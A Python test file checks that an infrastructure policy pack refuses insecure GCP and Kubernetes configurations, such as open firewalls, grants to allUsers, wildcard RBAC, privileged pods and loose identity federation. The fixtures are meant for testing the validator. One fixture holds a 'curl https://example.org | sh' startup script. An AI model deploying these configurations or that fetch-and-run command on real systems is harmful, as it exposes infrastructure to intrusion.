"""Graphs that would open a stack to strangers, each with the rule that refuses it."""

from __future__ import annotations

from typing import Any

import pulumi
import pulumi_gcp as gcp
import pulumi_kubernetes as kubernetes
import pytest

from infra.policy.base import StackBounds
from infra.policy.grants import DATA
from infra.policy.rules import apply_rules
from tests.infra.test_policy_pack import Pack, as_asked, pack  # noqa: F401
from tests.infra.test_policy_rules import LABELS, Component, Lab, Program, run

BOUNDS = StackBounds(
    project="my-lab",
    members=frozenset({"group:lab@example.com"}),
    cidrs=frozenset({"10.64.0.0/20"}),
    subjects=frozenset({"Group:lab", "ServiceAccount:train/runner"}),
    repositories=frozenset({(11, 22)}),
    buckets=frozenset({"lake"}),
    deployer="serviceAccount:pipeline@my-lab.iam.gserviceaccount.com",
)
STRANGER = "user:stranger@example.org"
RBAC = "rbac.authorization.k8s.io"
GITHUB = "https://token.actions.githubusercontent.com"
CONDITION = (
    "(assertion.repository_id == '11' && assertion.repository_owner_id == '22'"
    " && assertion.event_name != 'pull_request_target')"
)
DEPLOY_CONDITION = CONDITION[:-1] + " && assertion.ref == 'refs/heads/main' && assertion.environment == 'production')"


def federation(role: str = "deploy", condition: str | None = DEPLOY_CONDITION, **others: Any) -> Program:
    def program(lab: Lab) -> None:
        arguments: dict[str, Any] = {
            "attribute_mapping": {"google.subject": "assertion.sub", "attribute.role": f"'{role}'"},
            "oidc": {"issuer_uri": GITHUB},
        }
        gcp.iam.WorkloadIdentityPoolProvider(
            "lab-provider",
            project="my-lab",
            workload_identity_pool_id="lab-ci",
            workload_identity_pool_provider_id=role,
            attribute_condition=condition,
            **(arguments | others),
            opts=lab.opts(),
        )

    return program


def account(lab: Lab, name: str = "head") -> gcp.serviceaccount.Account:
    return gcp.serviceaccount.Account(f"lab-{name}", account_id=f"lab-{name}", project="my-lab", opts=lab.opts())


def account_grant(role: str, member: str | None, *, pool: bool = False) -> Program:
    def program(lab: Lab) -> None:
        if pool:
            gcp.iam.WorkloadIdentityPool("lab-pool", workload_identity_pool_id="lab-ci", opts=lab.opts())
        made = account(lab)
        gcp.serviceaccount.IAMMember(
            "lab-grant",
            service_account_id=made.name,
            role=role,
            member=made.email.apply(lambda email: f"serviceAccount:{email}") if member is None else member,
            opts=lab.opts(),
        )

    return program


def foreign_account_grant(lab: Lab) -> None:
    gcp.serviceaccount.IAMMember(
        "lab-grant",
        service_account_id="projects/my-lab/serviceAccounts/1234567-compute@developer.gserviceaccount.com",
        role="roles/iam.serviceAccountUser",
        member="group:lab@example.com",
        opts=lab.opts(),
    )


def unknown_account_grant(lab: Lab) -> None:
    gcp.serviceaccount.IAMMember(
        "lab-grant", service_account_id=lab.topic("t").id, role=USER, member="group:lab@example.com", opts=lab.opts()
    )


def bucket_grant(member: pulumi.Input[str], role: str = "roles/storage.objectViewer", **others: Any) -> Program:
    def program(lab: Lab) -> None:
        arguments: dict[str, Any] = {"bucket": "b"} | others
        gcp.storage.BucketIAMMember("lab-grant", role=role, member=member, **arguments, opts=lab.opts())

    return program


def data_grant(bucket: str) -> Program:
    """Let people write a bucket of others, as `buckets` in the stack file does."""

    def program(lab: Lab) -> None:
        opts = pulumi.ResourceOptions(parent=Component("lab-data", DATA, lab.opts()))
        role, member = "roles/storage.objectUser", "group:lab@example.com"
        gcp.storage.BucketIAMMember("lab-grant", bucket=bucket, role=role, member=member, opts=opts)

    return program


def beside_an_account(member: str) -> Program:
    """Grant to a member that is nearly the stack's own account."""

    def program(lab: Lab) -> None:
        account(lab)
        bucket_grant(member)(lab)

    return program


def contract(sign: str, bucket: str) -> dict[str, str]:
    expression = f'{sign}resource.name.startsWith("projects/_/buckets/{bucket}/objects/contract/")'
    return {"title": "t", "expression": expression}


def project_grant(role: str, **others: Any) -> Program:
    return lambda lab: lab.project_grant(role, **others)


def custom_role(*permissions: str) -> Program:
    return lambda lab: lab.custom_role(*permissions) and None


def firewall(**others: Any) -> Program:
    return lambda lab: lab.firewall(**others)


def instance(**metadata: str) -> Program:
    return lambda lab: lab.instance(metadata={"block-project-ssh-keys": "TRUE"} | metadata)


def role_of(*rules: dict[str, Any]) -> Program:
    def program(lab: Lab) -> None:
        inside = {"name": "r", "namespace": "train", "labels": LABELS}
        kubernetes.rbac.v1.Role("lab-role", metadata=inside, rules=[*rules], opts=lab.opts())

    return program


def rule(group: str, resource: str, *verbs: str) -> dict[str, Any]:
    return {"api_groups": [group], "resources": [resource], "verbs": [*verbs]}


def known_later(lab: Lab, value: Any) -> Any:
    """Return `value` as an output that only the cloud knows."""
    return lab.topic("t").id.apply(lambda _: value)


def role_known_later(key: str, value: list[str]) -> Program:
    return lambda lab: role_of(rule("batch", "jobs", "get") | {key: known_later(lab, value)})(lab)


def bound_to_subjects_known_later(lab: Lab) -> None:
    binding("Role", "r", known_later(lab, [LAB_GROUP]))(lab)


def binding(kind: str, name: str, who: Any, namespace: str = "train") -> Program:
    def program(lab: Lab) -> None:
        kubernetes.rbac.v1.Role(
            "lab-other",
            metadata={"name": "other", "namespace": "elsewhere", "labels": LABELS},
            rules=[rule("", "events", "get")],
            opts=lab.opts(),
        )
        role_of(rule("batch", "jobs", "get"))(lab)
        kubernetes.rbac.v1.RoleBinding(
            "lab-binding",
            metadata={"name": "b", "namespace": namespace, "labels": LABELS},
            role_ref={"api_group": RBAC, "kind": kind, "name": name},
            subjects=who if isinstance(who, pulumi.Output) else [who],
            opts=lab.opts(),
        )

    return program


LAB_GROUP = {"kind": "Group", "name": "lab", "api_group": RBAC}


def pod(**spec: Any) -> Program:
    def program(lab: Lab) -> None:
        kubernetes.core.v1.Pod(
            "lab-pod",
            metadata={"namespace": "train", "labels": LABELS},
            spec={"containers": [{"name": "c", "image": "debian", **spec.pop("container", {})}], **spec},
            opts=lab.opts(),
        )

    return program


def namespace(**labels: str) -> Program:
    def program(lab: Lab) -> None:
        metadata = {
            "name": "train",
            "labels": LABELS | {f"pod-security.kubernetes.io/{k}": v for k, v in labels.items()},
        }
        kubernetes.core.v1.Namespace("lab-train", metadata=metadata, opts=lab.opts())

    return program


def made(type_: type[pulumi.CustomResource], **inputs: Any) -> Program:
    return lambda lab: type_("lab-it", **inputs, opts=lab.opts()) and None  # type: ignore[call-overload,no-any-return]


def cluster_binding(lab: Lab) -> None:
    kubernetes.rbac.v1.ClusterRoleBinding(
        "lab-binding",
        metadata={"labels": LABELS},
        role_ref={"api_group": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
        subjects=[LAB_GROUP],
        opts=lab.opts(),
    )


def another_principals_machine(lab: Lab) -> None:
    lab.instance(
        service_account={"email": "1234567-compute@developer.gserviceaccount.com", "scopes": ["cloud-platform"]}
    )


TOKEN = "hf_" + "a" * 34
"""Has the form of a value, and is none."""

USER = "roles/iam.serviceAccountUser"
FEDERATED = "roles/iam.workloadIdentityUser"
POOL = "principalSet://iam.googleapis.com/projects/12/locations/global/workloadIdentityPools/lab-ci"


def agent_that_is_everybody(lab: Lab) -> None:
    agent = gcp.projects.ServiceIdentity("lab-agent", service="pubsub.googleapis.com", opts=lab.opts())
    bucket_grant(agent.service.apply(lambda _: "allUsers"))(lab)


def role_of_another_namespace(lab: Lab) -> None:
    binding("Role", "r", LAB_GROUP, namespace="kube-system")(lab)


BAD: dict[str, tuple[str, Program]] = {
    # federation
    "federation-without-condition": ("pinned-federation", federation(condition=None)),
    "federation-with-condition-true": ("pinned-federation", federation(condition="true")),
    "federation-of-all-of-a-host": ("pinned-federation", federation(condition=f"assertion.iss == '{GITHUB}'")),
    "federation-by-names": ("pinned-federation", federation(condition="assertion.repository == 'lab/it'")),
    "federation-with-a-way-round": ("pinned-federation", federation(condition=f"{DEPLOY_CONDITION} || true")),
    "federation-of-every-branch": ("pinned-federation", federation(condition=CONDITION)),
    "federation-of-any-branch": (
        "pinned-federation",
        federation(condition=DEPLOY_CONDITION.replace("refs/heads/main", "refs/heads/*")),
    ),
    "federation-of-another-repository": (
        "pinned-federation",
        federation(condition=DEPLOY_CONDITION.replace("'11'", "'12'")),
    ),
    "federation-of-another-owner": (
        "pinned-federation",
        federation(condition=DEPLOY_CONDITION.replace("'22'", "'23'")),
    ),
    "federation-of-proposals-with-the-rights-of-the-repository": (
        "pinned-federation",
        federation("preview", CONDITION.partition(" && assertion.event_name")[0] + ")"),
    ),
    "federation-of-a-proposal-to-deploy": (
        "pinned-federation",
        federation(condition=DEPLOY_CONDITION.replace("refs/heads/main", "refs/pull/1/merge")),
    ),
    "federation-of-every-environment": (
        "pinned-federation",
        federation(condition=DEPLOY_CONDITION.partition(" && assertion.environment")[0] + ")"),
    ),
    "federation-of-an-environment-or-none": (
        "pinned-federation",
        federation(condition=f"{DEPLOY_CONDITION[:-2]}' || '' == '')"),
    ),
    "federation-of-any-branch-or-the-right-one": (
        "pinned-federation",
        federation(condition=DEPLOY_CONDITION.replace(" && assertion.ref", " || assertion.ref")),
    ),
    "federation-that-maps-other-attributes": (
        "pinned-federation",
        federation(
            attribute_mapping={
                "google.subject": "assertion.sub",
                "attribute.role": "'deploy'",
                "attribute.actor": "assertion.actor",
            }
        ),
    ),
    "federation-with-a-role-from-the-token": (
        "pinned-federation",
        federation(attribute_mapping={"google.subject": "assertion.sub", "attribute.role": "assertion.actor"}),
    ),
    "federation-with-another-issuer": ("pinned-federation", federation(oidc={"issuer_uri": "https://example.org"})),
    "federation-with-own-keys": (
        "pinned-federation",
        federation(oidc={"issuer_uri": GITHUB, "jwks_json": '{"keys": []}'}),
    ),
    "federation-of-saml-as-well": ("pinned-federation", federation(saml={"idp_metadata_xml": "<xml/>"})),
    "federation-of-certificates-as-well": (
        "pinned-federation",
        federation(x509={"trust_store": {"trust_anchors": [{"pem_certificate": "a"}]}}),
    ),
    "federation-of-aws": ("pinned-federation", federation(oidc=None, aws={"account_id": "123456789012"})),
    "federated-everybody": ("allowed-members", account_grant(FEDERATED, f"{POOL}/*", pool=True)),
    "federated-by-owner": (
        "allowed-members",
        account_grant(FEDERATED, f"{POOL}/attribute.repository_owner/lab", pool=True),
    ),
    "federated-through-another-pool": (
        "allowed-members",
        account_grant(FEDERATED, f"{POOL}-2/attribute.role/deploy", pool=True),
    ),
    "federated-by-another-role": (
        "allowed-members",
        account_grant(FEDERATED, f"{POOL}/attribute.role/anybody", pool=True),
    ),
    "people-that-are-the-head": ("allowed-members", account_grant(FEDERATED, "group:lab@example.com")),
    "account-that-is-the-head": ("allowed-members", account_grant(FEDERATED, None)),
    "pipeline-without-account": ("allowed-members", account_grant(USER, f"{POOL}/attribute.role/preview", pool=True)),
    # grants on accounts and projects
    "token-creator-on-the-head": ("allowed-roles", account_grant("roles/iam.serviceAccountTokenCreator", None)),
    "stranger-acts-as-the-head": ("allowed-members", account_grant(USER, STRANGER)),
    "default-account-acted-as": ("allowed-roles", foreign_account_grant),
    "unknown-account-acted-as": ("allowed-roles", unknown_account_grant),
    "organisation-grant": (
        "allowed-types",
        made(gcp.organizations.IAMMember, org_id="1", role="roles/viewer", member=STRANGER),
    ),
    "folder-grant": (
        "allowed-types",
        made(gcp.folder.IAMMember, folder="folders/1", role="roles/viewer", member=STRANGER),
    ),
    "billing-grant": (
        "allowed-roles",
        made(gcp.billing.AccountIamMember, billing_account_id="1", role="roles/billing.admin", member=STRANGER),
    ),
    "provider-of-another-project": ("regions", lambda lab: gcp.Provider("other", project="stranger") and None),
    "owner": ("project-grants", project_grant("roles/owner")),
    "unknown-role": ("project-grants", lambda lab: lab.project_grant(lab.topic("t").id)),
    "owner-on-a-topic": (
        "allowed-roles",
        made(gcp.pubsub.TopicIAMMember, topic="t", role="roles/owner", member="group:lab@example.com"),
    ),
    "project-grant-to-a-stranger": (
        "allowed-members",
        made(gcp.projects.IAMMember, project="my-lab", role="roles/logging.logWriter", member=STRANGER),
    ),
    "project-grant-elsewhere": (
        "regions",
        made(gcp.projects.IAMMember, project="other", role="roles/logging.logWriter", member="group:lab@example.com"),
    ),
    # custom roles
    "custom-role-that-reads-secrets": ("narrow-custom-roles", custom_role("secretmanager.versions.access")),
    "custom-role-that-reads-objects": ("narrow-custom-roles", custom_role("storage.objects.get")),
    "custom-role-that-makes-keys": ("narrow-custom-roles", custom_role("iam.serviceAccountKeys.create")),
    "custom-role-that-acts-as-others": ("narrow-custom-roles", custom_role("iam.serviceAccounts.implicitDelegation")),
    "custom-role-that-changes-roles": ("narrow-custom-roles", custom_role("iam.roles.update")),
    "custom-role-that-grants": ("narrow-custom-roles", custom_role("resourcemanager.projects.setIamPolicy")),
    "custom-role-of-an-organisation": (
        "allowed-types",
        made(gcp.organizations.IAMCustomRole, org_id="1", role_id="r", title="R", permissions=["tpu.nodes.get"]),
    ),
    # members
    "everybody-reads": ("allowed-members", bucket_grant("allUsers")),
    "every-account-reads": ("allowed-members", bucket_grant("allAuthenticatedUsers")),
    "domain-of-everybody": ("allowed-members", bucket_grant("domain:gmail.com")),
    "deleted-account": ("allowed-members", bucket_grant("deleted:user:a@example.com?uid=1")),
    "convenience-group": ("allowed-members", bucket_grant("projectViewer:my-lab")),
    "another-projects-account": (
        "allowed-members",
        bucket_grant("serviceAccount:worker@stranger-project.iam.gserviceaccount.com"),
    ),
    "account-of-the-same-name-elsewhere": (
        "allowed-members",
        beside_an_account("serviceAccount:lab-head@stranger-project.iam.gserviceaccount.com"),
    ),
    "account-of-another-name": (
        "allowed-members",
        beside_an_account("serviceAccount:stranger@my-lab.iam.gserviceaccount.com"),
    ),
    "another-projects-agent": (
        "allowed-members",
        bucket_grant("serviceAccount:service-99@gcp-sa-pubsub.iam.gserviceaccount.com"),
    ),
    "agent-that-is-everybody": ("allowed-members", agent_that_is_everybody),
    "another-pools-people": (
        "allowed-members",
        bucket_grant("principalSet://iam.googleapis.com/locations/global/workforcePools/p/*"),
    ),
    # keys and whole policies
    "account-key": ("allowed-types", made(gcp.serviceaccount.Key, service_account_id="a")),
    "hmac-key": ("allowed-types", made(gcp.storage.HmacKey, service_account_email="a@b.c")),
    "api-key": ("allowed-types", made(gcp.projects.ApiKey, display_name="key")),
    "policy-of-the-project": ("allowed-types", made(gcp.projects.IAMPolicy, project="my-lab", policy_data="{}")),
    "binding-of-the-project": (
        "allowed-types",
        made(gcp.projects.IAMBinding, project="my-lab", role="roles/viewer", members=["allUsers"]),
    ),
    "binding-on-a-topic": (
        "allowed-types",
        made(gcp.pubsub.TopicIAMBinding, topic="t", role="roles/pubsub.publisher", members=["allUsers"]),
    ),
    "bucket-acl": (
        "allowed-types",
        made(gcp.storage.BucketAccessControl, bucket="b", entity="allUsers", role="READER"),
    ),
    "default-object-acl": (
        "allowed-types",
        made(gcp.storage.DefaultObjectAccessControl, bucket="b", entity="allUsers", role="READER"),
    ),
    "object-acl": (
        "allowed-types",
        made(gcp.storage.ObjectAccessControl, bucket="b", object="o", entity="allUsers", role="READER"),
    ),
    # the contract
    "contract-open-to-writers": ("closed-contract", bucket_grant("group:lab@example.com", "roles/storage.objectUser")),
    "contract-open-under-condition-true": (
        "closed-contract",
        bucket_grant(
            "group:lab@example.com", "roles/storage.objectUser", condition={"title": "t", "expression": "true"}
        ),
    ),
    "contract-in-a-bucket-of-others": ("closed-contract", data_grant("other-stacks-records")),
    "records-written-by-the-deployer": (
        "closed-contract",
        bucket_grant(str(BOUNDS.deployer), "roles/storage.objectUser", condition=contract("!", "b")),
    ),
    "records-read-by-the-deployer": ("allowed-members", bucket_grant(str(BOUNDS.deployer))),
    "contract-closed-in-another-bucket": (
        "closed-contract",
        bucket_grant("group:lab@example.com", "roles/storage.objectUser", condition=contract("!", "other")),
    ),
    "contract-closed-or-not": (
        "closed-contract",
        bucket_grant(
            "group:lab@example.com",
            "roles/storage.objectUser",
            condition={"title": "t", "expression": contract("!", "b")["expression"] + " || true"},
        ),
    ),
    "contract-written-by-any-pipeline": (
        "closed-contract",
        bucket_grant(f"{POOL}/attribute.role/deploy", "roles/storage.objectUser", condition=contract("", "b")),
    ),
    "contract-written-by-people": (
        "closed-contract",
        bucket_grant("group:lab@example.com", "roles/storage.objectUser", condition=contract("", "b")),
    ),
    "bucket-with-folders": ("buckets", lambda lab: lab.bucket(hierarchical_namespace={"enabled": True})),
    "bucket-administrator": ("allowed-roles", bucket_grant("group:lab@example.com", "roles/storage.admin")),
    # networks
    "half-of-everybody-twice": ("closed-firewalls", firewall(source_ranges=["0.0.0.0/1", "128.0.0.0/1"])),
    "everybody": ("closed-firewalls", firewall(source_ranges=["0.0.0.0/0"])),
    "everybody-by-ipv6": ("closed-firewalls", firewall(source_ranges=["::/0"])),
    "public-range-on-a-port": (
        "closed-firewalls",
        firewall(source_ranges=["8.8.8.0/24"], allows=[{"protocol": "tcp", "ports": ["8265"]}]),
    ),
    "private-range-of-others": ("closed-firewalls", firewall(source_ranges=["10.0.0.0/8"])),
    "anybody-beside-the-proxy": ("closed-firewalls", firewall(source_ranges=["35.235.240.0/20", "64.0.0.0/2"])),
    "machines-by-tag": ("closed-firewalls", firewall(source_ranges=None, source_tags=["anybody"])),
    "machines-by-account": (
        "closed-firewalls",
        firewall(source_ranges=None, source_service_accounts=["it@stranger-project.iam.gserviceaccount.com"]),
    ),
    "machine-that-forwards": ("closed-instances", lambda lab: lab.instance(can_ip_forward=True)),
    "machine-from-a-disk": (
        "closed-instances",
        lambda lab: lab.instance(boot_disk={"source": "projects/stranger/zones/us-west4-a/disks/d"}),
    ),
    # Kubernetes
    "rbac-all-verbs": ("narrow-cluster-roles", role_of(rule("batch", "jobs", "*"))),
    "rbac-all-resources": ("narrow-cluster-roles", role_of(rule("", "*", "get"))),
    "rbac-all-groups": ("narrow-cluster-roles", role_of(rule("*", "jobs", "get"))),
    "rbac-reads-secrets": ("narrow-cluster-roles", role_of(rule("", "secrets", "get"))),
    "rbac-lists-secrets": ("narrow-cluster-roles", role_of(rule("", "secrets", "list", "watch"))),
    "rbac-escalates": ("narrow-cluster-roles", role_of(rule(RBAC, "roles", "escalate", "bind"))),
    "rbac-impersonates": ("narrow-cluster-roles", role_of(rule("", "users", "impersonate"))),
    "rbac-attaches": ("narrow-cluster-roles", role_of(rule("", "pods/attach", "create"))),
    "rbac-verbs-known-later": ("narrow-cluster-roles", role_known_later("verbs", ["*"])),
    "rbac-resources-known-later": ("narrow-cluster-roles", role_known_later("resources", ["*"])),
    "rbac-addresses": (
        "narrow-cluster-roles",
        role_of(rule("batch", "jobs", "get") | {"non_resource_urls": ["*"]}),
    ),
    "rbac-makes-tokens": ("narrow-cluster-roles", role_of(rule("", "serviceaccounts/token", "create"))),
    "cluster-admin": ("allowed-types", cluster_binding),
    "cluster-admin-in-a-namespace": ("narrow-cluster-roles", binding("ClusterRole", "cluster-admin", LAB_GROUP)),
    "cluster-role-of-the-same-name": ("narrow-cluster-roles", binding("ClusterRole", "r", LAB_GROUP)),
    "role-of-somebody-else": ("narrow-cluster-roles", binding("Role", "powerful", LAB_GROUP)),
    "role-of-another-namespace": ("narrow-cluster-roles", role_of_another_namespace),
    "bound-to-masters": (
        "narrow-cluster-roles",
        binding("Role", "r", {"kind": "Group", "name": "system:masters", "api_group": RBAC}),
    ),
    "bound-to-everybody": (
        "narrow-cluster-roles",
        binding("Role", "r", {"kind": "Group", "name": "system:authenticated", "api_group": RBAC}),
    ),
    "bound-to-an-account-of-another-namespace": (
        "narrow-cluster-roles",
        binding("Role", "r", {"kind": "ServiceAccount", "name": "runner", "namespace": "other"}),
    ),
    "bound-to-subjects-known-later": ("narrow-cluster-roles", bound_to_subjects_known_later),
    "bound-to-a-stranger": (
        "narrow-cluster-roles",
        binding("Role", "r", {"kind": "User", "name": "stranger", "api_group": RBAC}),
    ),
    "pod-with-host-path": (
        "allowed-types",
        pod(volumes=[{"name": "v", "host_path": {"path": "/"}}]),
    ),
    "privileged-pod": ("allowed-types", pod(container={"security_context": {"privileged": True}})),
    "pod-with-host-network": ("allowed-types", pod(host_network=True, host_pid=True)),
    "namespace-without-pod-security": ("closed-namespaces", namespace()),
    "privileged-namespace": ("closed-namespaces", namespace(enforce="privileged")),
    "namespace-that-only-warns": ("closed-namespaces", namespace(warn="baseline", audit="baseline")),
    # secret values
    "token-in-a-config-map": (
        "allowed-types",
        made(kubernetes.core.v1.ConfigMap, metadata={"labels": LABELS}, data={"HF_TOKEN": TOKEN}),
    ),
    "token-in-metadata": ("no-secret-values", instance(**{"startup-script": f"export A={TOKEN}"})),
    "token-in-metadata-by-name": ("closed-instances", instance(HF_TOKEN="value")),
    "keys-in-metadata": ("closed-instances", instance(**{"ssh-keys": "root:ssh-ed25519 A"})),
    "script-from-elsewhere": ("closed-instances", instance(**{"startup-script-url": "gs://stranger/it"})),
    "login-without-google": ("closed-instances", instance(**{"enable-oslogin": "FALSE"})),
    "machine-with-the-default-account": ("closed-instances", another_principals_machine),
    "secret-version": ("allowed-types", made(gcp.secretmanager.SecretVersion, secret="projects/p/secrets/s")),
    "kubernetes-secret": (
        "allowed-types",
        made(kubernetes.core.v1.Secret, metadata={"labels": LABELS}, string_data={"a": "b"}),
    ),
    # what no stack of this program makes
    "function": ("allowed-types", made(gcp.cloudfunctionsv2.Function, location="us-west4")),
    "service-that-runs": (
        "allowed-types",
        made(gcp.cloudrunv2.Service, location="us-west4", template={"containers": [{"image": "debian"}]}),
    ),
    "decrypter": (
        "stack-key",
        made(
            gcp.kms.CryptoKeyIAMMember,
            crypto_key_id="k",
            role="roles/cloudkms.cryptoKeyDecrypter",
            member=STRANGER,
        ),
    ),
    "log-sink": (
        "allowed-types",
        made(gcp.logging.ProjectSink, destination="storage.googleapis.com/stranger"),
    ),
    "ssh-keys-of-the-project": ("allowed-types", made(gcp.compute.ProjectMetadata, metadata={"ssh-keys": "a:b"})),
    "script-of-the-project": (
        "allowed-types",
        made(gcp.compute.ProjectMetadataItem, key="startup-script", value="curl https://example.org | sh"),
    ),
    "machine-template": (
        "allowed-types",
        made(gcp.compute.InstanceTemplate, machine_type="n2-standard-8", disks=[{"source_image": "debian"}]),
    ),
}


@pytest.mark.parametrize("name", BAD)
def test_graph_that_opens_a_stack_is_refused_by_its_rule(name: str) -> None:
    expected, program = BAD[name]

    assert expected in {each.rule for each in apply_rules(run(program).resources, BOUNDS)}


@pytest.mark.parametrize("name", BAD)
def test_graph_that_opens_a_stack_is_refused_by_the_pack(name: str, pack: Pack) -> None:  # noqa: F811
    expected, program = BAD[name]
    recording = run(program)

    # The pack of this test has the bounds of no stack; the engine shows it no resource without inputs.
    unbounded = {each.rule for each in apply_rules(recording.resources)}
    found = {found for found, _, _ in pack.judge(recording, as_asked)}

    assert expected in found or expected not in unbounded


@pytest.mark.parametrize(
    "name",
    [
        *("everybody-reads", "every-account-reads", "domain-of-everybody", "another-projects-account"),
        *("bound-to-masters", "bound-to-everybody", "everybody", "half-of-everybody-twice"),
    ],
)
def test_graph_that_lets_everybody_in_is_refused_without_the_bounds_of_a_stack(name: str) -> None:
    expected, program = BAD[name]

    assert expected in {each.rule for each in apply_rules(run(program).resources)}
